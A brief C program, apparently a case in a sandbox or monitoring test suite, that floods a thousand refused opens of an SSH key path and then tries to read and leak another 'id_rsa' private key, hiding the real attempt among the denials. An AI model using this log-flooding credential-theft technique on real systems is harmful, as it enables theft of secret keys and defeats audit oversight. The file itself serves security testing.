/* SPDX-License-Identifier: Apache-2.0 */
/* A thousand refusals at once, so that nobody has room or time for the one that counts. */
#define ATTACK "refusal-flood"
#include "attack.h"

int main(int count, char **argument)
{
	char *secret = text("%s/id_rsa", argument[1]);

	(void)count;
	for (int i = 0; i < 1000; i++)
		close(open(text("%s/keys/id_rsa", argument[1]), O_RDWR | O_CLOEXEC));
	open_and_leak(secret);
}
